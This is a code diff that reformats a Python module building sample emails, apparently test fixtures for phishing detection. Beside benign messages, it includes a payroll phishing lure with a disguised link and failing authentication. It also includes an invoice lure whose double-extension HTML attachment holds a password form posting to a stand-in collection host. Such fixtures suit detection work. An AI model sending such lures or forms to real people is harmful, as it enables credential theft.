@@ -3,15 +3,20 @@
 from __future__ import annotations
 
 from dataclasses import dataclass
+from datetime import UTC, datetime
 from email import message_from_bytes, policy
 from email.headerregistry import Address as HeaderAddress
 from email.message import EmailMessage
 from email.utils import format_datetime
-from datetime import UTC, datetime
 from pathlib import Path
 
 ORG_DOMAIN = "example.org"
-MAILBOXES = ("alice@example.org", "bob@example.org", "carol@example.org", "dave@example.org")
+MAILBOXES = (
+    "alice@example.org",
+    "bob@example.org",
+    "carol@example.org",
+    "dave@example.org",
+)
 RECEIVER = "mx.example.org"
 
 PAYROLL_URL = "https://payroll-example.test/login/verify?id=7731"
@@ -30,16 +35,28 @@ class SampleMessage:
 
 
 def _message(
-    key: str, *, sender: str, display: str, to: list[str], subject: str, text: str,
-    html: str | None = None, auth: str, ip: str, reply_to: str | None = None,
-    envelope: str | None = None, day: int = 1,
+    key: str,
+    *,
+    sender: str,
+    display: str,
+    to: list[str],
+    subject: str,
+    text: str,
+    html: str | None = None,
+    auth: str,
+    ip: str,
+    reply_to: str | None = None,
+    envelope: str | None = None,
+    day: int = 1,
 ) -> EmailMessage:
     message = EmailMessage()
     when = datetime(2026, 11, day, 9, 30, tzinfo=UTC)
     message["Return-Path"] = f"<{envelope or sender}>"
     message["Authentication-Results"] = f"{RECEIVER}; {auth}"
-    message["Received"] = (f"from mail.{sender.split('@')[1]} (mail.{sender.split('@')[1]} [{ip}]) "
-                           f"by {RECEIVER} with ESMTPS; {format_datetime(when)}")
+    message["Received"] = (
+        f"from mail.{sender.split('@')[1]} (mail.{sender.split('@')[1]} [{ip}]) "
+        f"by {RECEIVER} with ESMTPS; {format_datetime(when)}"
+    )
     message["From"] = HeaderAddress(display_name=display, addr_spec=sender)
     message["To"] = ", ".join(to)
     if reply_to:
@@ -55,50 +72,75 @@ def _message(
 
 def _payroll_phish() -> EmailMessage:
     return _message(
-        "payroll", sender="hr-notice@payroll-example.test", display="Example HR Payroll",
-        to=list(MAILBOXES[:3]), subject="Action required: confirm your salary account",
+        "payroll",
+        sender="hr-notice@payroll-example.test",
+        display="Example HR Payroll",
+        to=list(MAILBOXES[:3]),
+        subject="Action required: confirm your salary account",
         text=f"Your salary payment is on hold. Confirm your account at {PAYROLL_URL} today.",
-        html=(f'<p>Your salary payment is on hold.</p><p><a href="{PAYROLL_URL}">'
-              "https://hr.example.org/payroll</a></p>"),
+        html=(
+            f'<p>Your salary payment is on hold.</p><p><a href="{PAYROLL_URL}">'
+            "https://hr.example.org/payroll</a></p>"
+        ),
         auth="spf=fail smtp.mailfrom=payroll-example.test; dkim=none; dmarc=fail "
-             "header.from=payroll-example.test",
-        ip="192.0.2.44", reply_to="payroll-desk@mailbox.example", day=2,
+        "header.from=payroll-example.test",
+        ip="192.0.2.44",
+        reply_to="payroll-desk@mailbox.example",
+        day=2,
     )
 
 
 def _invoice_phish() -> EmailMessage:
     message = _message(
-        "invoice", sender="billing@example.org", display="Accounts <accounts@example.org>",
-        envelope="bounce@docs-share.example", to=[MAILBOXES[1], MAILBOXES[3]],
-        subject="Overdue invoice 4471", text=f"Please see the attached invoice, also at {DOCS_URL}.",
+        "invoice",
+        sender="billing@example.org",
+        display="Accounts <accounts@example.org>",
+        envelope="bounce@docs-share.example",
+        to=[MAILBOXES[1], MAILBOXES[3]],
+        subject="Overdue invoice 4471",
+        text=f"Please see the attached invoice, also at {DOCS_URL}.",
         auth="spf=pass smtp.mailfrom=docs-share.example; dkim=none; dmarc=fail "
-             "header.from=example.org",
-        ip="198.51.100.7", day=3,
+        "header.from=example.org",
+        ip="198.51.100.7",
+        day=3,
     )
-    page = (b"<html><body><form action='http://docs-share.example/collect' method='post'>"
-            b"<input type='password' name='p'></form></body></html>")
-    message.add_attachment(page, maintype="text", subtype="html", filename="invoice_4471.pdf.html")
+    page = (
+        b"<html><body><form action='http://docs-share.example/collect' method='post'>"
+        b"<input type='password' name='p'></form></body></html>"
+    )
+    message.add_attachment(
+        page, maintype="text", subtype="html", filename="invoice_4471.pdf.html"
+    )
     return message
 
 
 def _newsletter() -> EmailMessage:
     return _message(
-        "newsletter", sender="news@newsletter.example.net", display="Example Weekly",
-        to=list(MAILBOXES), subject="This week at Example: the new office opens",
+        "newsletter",
+        sender="news@newsletter.example.net",
+        display="Example Weekly",
+        to=list(MAILBOXES),
+        subject="This week at Example: the new office opens",
         text="The new office opens on Monday. Read more at https://www.example.net/news/office",
         auth="spf=pass smtp.mailfrom=newsletter.example.net; dkim=pass header.d=example.net; "
-             "dmarc=pass header.from=newsletter.example.net",
-        ip="203.0.113.20", day=1,
+        "dmarc=pass header.from=newsletter.example.net",
+        ip="203.0.113.20",
+        day=1,
     )
 
 
 def _colleague() -> EmailMessage:
     return _message(
-        "lunch", sender="dave@example.org", display="Dave", to=[MAILBOXES[0]],
-        subject="Lunch on Friday?", text="Shall we try the new place on Friday at noon?",
+        "lunch",
+        sender="dave@example.org",
+        display="Dave",
+        to=[MAILBOXES[0]],
+        subject="Lunch on Friday?",
+        text="Shall we try the new place on Friday at noon?",
         auth="spf=pass smtp.mailfrom=example.org; dkim=pass header.d=example.org; "
-             "dmarc=pass header.from=example.org",
-        ip="192.0.2.10", day=4,
+        "dmarc=pass header.from=example.org",
+        ip="192.0.2.10",
+        day=4,
     )
 
 
